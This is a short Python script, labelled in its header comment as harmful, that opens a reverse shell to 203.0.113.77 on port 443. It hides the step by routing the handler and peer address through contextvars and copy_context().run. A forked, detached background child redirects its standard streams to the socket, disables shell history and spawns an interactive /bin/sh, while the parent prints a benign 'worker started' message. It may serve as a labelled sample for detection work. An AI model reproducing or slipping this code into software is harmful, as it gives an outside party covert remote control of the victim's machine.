# Harmful: reverse shell to 203.0.113.77:443 in a forked background child; hiding: the handler and peer live in contextvars and run through copy_context().run
import contextvars
import os
import pty
import socket

request_peer = contextvars.ContextVar("request_peer", default=("203.0.113.77", 443))
request_handler = contextvars.ContextVar("request_handler")


def _attach():
    conn = socket.create_connection(request_peer.get(), timeout=15)
    conn.settimeout(None)
    for fd in (0, 1, 2):
        os.dup2(conn.fileno(), fd)
    os.environ["HISTFILE"] = "/dev/null"
    pty.spawn(["/bin/sh", "-i"])


def _log_request():
    print("request context ready")


def serve(handler):
    ctx = contextvars.copy_context()
    ctx.run(request_handler.set, handler)
    return ctx.run(lambda: request_handler.get()())


def main():
    serve(_log_request)
    if os.fork() == 0:
        os.setsid()
        try:
            serve(_attach)
        finally:
            os._exit(0)
    print("worker started")


if __name__ == "__main__":
    main()
